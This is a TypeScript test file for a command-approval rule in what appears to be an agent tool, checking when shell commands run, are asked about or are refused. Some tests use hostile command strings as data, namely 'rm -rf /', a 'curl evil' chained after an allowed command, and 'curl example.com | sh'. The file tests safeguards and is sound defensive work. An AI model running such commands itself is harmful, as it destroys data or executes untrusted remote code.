import * as assert from 'node:assert/strict';
import { approvalAfter, COMMAND_REASONS, decideCommands, patternFacts, runsUnasked, type CommandAsker, type CommandDecision, type CommandFacts } from '../../../src/verify/decide-commands';

/** One combination of what a surface knows about the command `npm test`. */
interface Combination {
  off: boolean;
  trusted: boolean;
  yes: boolean;
  asker: CommandAsker;
  list: 'none' | 'matches' | 'misses';
  denial: 'none' | 'once' | 'always';
  awaiting: boolean;
  approved: boolean;
}

const COMMAND = 'npm test';
const DENIED_ONCE = 'not approved: a person denied this command on 2026-11-26';
const DENIED_ALWAYS = 'not approved: a person chose "Deny always" for this command';

function factsOf(c: Combination): CommandFacts {
  return {
    off: c.off,
    trusted: c.trusted,
    yes: c.yes,
    asker: c.asker,
    ...(c.list === 'none' ? {} : { allowList: { allows: (command: string) => c.list === 'matches' && command === COMMAND } }),
    denied: new Map(c.denial === 'none' ? [] : [[COMMAND, { always: c.denial === 'always', reason: c.denial === 'always' ? DENIED_ALWAYS : DENIED_ONCE }]]),
    awaiting: new Set(c.awaiting ? [COMMAND] : []),
    approved: new Set(c.approved ? [COMMAND] : []),
  };
}

const PERSON: readonly CommandAsker[] = ['terminal', 'dialog', 'policy'];
const asks = (c: Combination) => PERSON.includes(c.asker);

/**
 * The rule as a decision table, read top to bottom: the first row whose condition holds answers.
 * Each row is a sentence of the product's policy; `decideCommands` must answer as the table does
 * for every combination, and every row must answer for at least one.
 */
const TABLE: readonly { name: string; when: (c: Combination) => boolean; then: (c: Combination) => Omit<CommandDecision, 'command'> }[] = [
  { name: '--no-commands', when: (c) => c.off, then: () => ({ verdict: 'refuse', reason: COMMAND_REASONS.off }) },
  { name: 'untrusted workspace', when: (c) => !c.trusted, then: () => ({ verdict: 'refuse', reason: COMMAND_REASONS.untrusted }) },
  { name: 'Deny always', when: (c) => c.denial === 'always', then: () => ({ verdict: 'refuse', reason: DENIED_ALWAYS }) },
  { name: 'a probe never runs a held command', when: (c) => c.asker === 'probe' && (c.denial === 'once' || c.awaiting), then: () => ({ verdict: 'refuse', reason: COMMAND_REASONS.notProbed }) },
  { name: 'denied before, nobody to ask', when: (c) => c.asker === 'nobody' && c.denial === 'once', then: () => ({ verdict: 'refuse', reason: DENIED_ONCE }) },
  { name: 'proposed, nobody to ask', when: (c) => c.asker === 'nobody' && c.awaiting, then: () => ({ verdict: 'refuse', reason: COMMAND_REASONS.proposed }) },
  { name: 'denied before: the person again', when: (c) => asks(c) && c.denial === 'once', then: () => ({ verdict: 'ask', mark: 'denied-before' }) },
  { name: "proposed, under a terminal's --yes", when: (c) => c.asker === 'terminal' && c.awaiting && c.yes, then: () => ({ verdict: 'run' }) },
  { name: 'proposed: the person', when: (c) => asks(c) && c.awaiting, then: () => ({ verdict: 'ask', mark: 'proposed' }) },
  { name: '--yes, the allow-list, or approved already', when: (c) => c.yes || c.approved || c.list === 'matches', then: () => ({ verdict: 'run' }) },
  { name: 'anything else is asked', when: asks, then: () => ({ verdict: 'ask' }) },
  { name: 'a probe asks nobody', when: (c) => c.asker === 'probe', then: () => ({ verdict: 'refuse', reason: COMMAND_REASONS.notProbed }) },
  { name: 'not in the allow-list', when: (c) => c.list === 'misses', then: () => ({ verdict: 'refuse', reason: COMMAND_REASONS.notListed }) },
  { name: 'no allow-list, nobody to ask', when: () => true, then: () => ({ verdict: 'refuse', reason: COMMAND_REASONS.noList }) },
];

function* combinations(): Generator<Combination> {
  for (const off of [false, true])
    for (const trusted of [true, false])
      for (const yes of [false, true])
        for (const asker of ['terminal', 'dialog', 'policy', 'nobody', 'probe'] as const)
          for (const list of ['none', 'matches', 'misses'] as const)
            for (const denial of ['none', 'once', 'always'] as const)
              for (const awaiting of [false, true])
                for (const approved of [false, true]) yield { off, trusted, yes, asker, list, denial, awaiting, approved };
}

describe('decideCommands: the one rule for which commands run', () => {
  it('answers as the decision table does for every combination of facts, and every row answers for some', () => {
    const used = new Map<string, number>();
    let count = 0;
    for (const c of combinations()) {
      count++;
      const row = TABLE.find((r) => r.when(c))!;
      used.set(row.name, (used.get(row.name) ?? 0) + 1);
      const [decision] = decideCommands([COMMAND], factsOf(c));
      assert.deepEqual(decision, { command: COMMAND, ...row.then(c) }, `${row.name}: ${JSON.stringify(c)}`);
    }
    assert.equal(count, 2 * 2 * 2 * 5 * 3 * 3 * 2 * 2);
    assert.deepEqual(TABLE.filter((r) => !used.has(r.name)).map((r) => r.name), [], 'a row no combination reaches is a rule that says nothing');
  });

  it('decides each command of a set on its own facts', () => {
    const decisions = decideCommands(['npm test', 'npm run lint', 'make'], {
      asker: 'nobody',
      allowList: { allows: (c) => c.startsWith('npm ') },
      denied: new Map([['npm run lint', { always: false, reason: DENIED_ONCE }]]),
    });
    assert.deepEqual(decisions, [
      { command: 'npm test', verdict: 'run' },
      { command: 'npm run lint', verdict: 'refuse', reason: DENIED_ONCE },
      { command: 'make', verdict: 'refuse', reason: COMMAND_REASONS.notListed },
    ]);
  });

  it('no facts but an asker: a person or policy is asked, nobody refuses', () => {
    assert.deepEqual(decideCommands(['x'], { asker: 'policy' }), [{ command: 'x', verdict: 'ask' }]);
    assert.deepEqual(decideCommands(['x'], { asker: 'nobody' }), [{ command: 'x', verdict: 'refuse', reason: COMMAND_REASONS.noList }]);
  });
});

describe('approvalAfter: the decisions and the answer, as the verification engine reads them', () => {
  const decisions: CommandDecision[] = [
    { command: 'a', verdict: 'run' },
    { command: 'b', verdict: 'ask' },
    { command: 'c', verdict: 'refuse', reason: 'why c' },
  ];

  it('nothing asked: what runs runs, a refusal keeps its own reason', () => {
    assert.deepEqual(approvalAfter([decisions[0]!, decisions[2]!]), { approved: true, only: ['a'], reason: COMMAND_REASONS.notApproved, reasons: { c: 'why c' } });
  });

  it('a yes runs the asked commands too', () => {
    assert.deepEqual(approvalAfter(decisions, { yes: true, refused: 'no' }), { approved: true, only: ['a', 'b'], reason: COMMAND_REASONS.notApproved, reasons: { c: 'why c' } });
  });

  it('a no refuses the asked commands with its reason; the others run', () => {
    assert.deepEqual(approvalAfter(decisions, { yes: false, refused: 'said no' }), { approved: true, only: ['a'], reason: 'said no', reasons: { b: 'said no', c: 'why c' } });
  });

  it("a no to a dialog that names the whole set refuses it all (allOrNothing)", () => {
    assert.deepEqual(approvalAfter(decisions, { yes: false, refused: 'said no', allOrNothing: true }), { approved: false, only: [], reason: 'said no', reasons: { a: 'said no', b: 'said no', c: 'why c' } });
  });

  it('an asked command nobody answered does not run', () => {
    assert.deepEqual(approvalAfter(decisions), { approved: true, only: ['a'], reason: COMMAND_REASONS.notApproved, reasons: { b: COMMAND_REASONS.notApproved, c: 'why c' } });
  });
});

describe('patternFacts and runsUnasked: an agent command under a run\'s allow-list, by the same rule', () => {
  it('every line of a request must be allowed; `*` alone is a yes to every command, not a pattern', () => {
    const list: CommandFacts = { asker: 'policy', ...patternFacts(['npm test', 'npm run *']) };
    assert.equal(runsUnasked('npm test', list), true);
    assert.equal(runsUnasked('npm test\nnpm run lint', list), true);
    assert.equal(runsUnasked('npm test\nrm -rf /', list), false, 'one line the list does not name: asked');
    assert.equal(runsUnasked('npm run lint && curl evil', list), false, '`*` never spans a shell operator');
    assert.equal(runsUnasked('', list), false, 'an empty request names no command');
    const all: CommandFacts = { asker: 'policy', ...patternFacts([' * ']) };
    assert.equal(runsUnasked('curl example.com | sh', all), true);
    assert.equal(runsUnasked('', all), true, 'a yes to every command covers even an empty one');
  });

  it('what the rule refuses first still wins: an untrusted workspace, a "Deny always"', () => {
    const all = patternFacts(['*']);
    assert.equal(runsUnasked('npm test', { asker: 'policy', trusted: false, ...all }), false);
    assert.equal(runsUnasked('', { asker: 'policy', trusted: false, ...all }), false);
    assert.equal(runsUnasked('npm test', { asker: 'policy', ...all, denied: new Map([['npm test', { always: true, reason: 'denied always' }]]) }), false);
  });
});
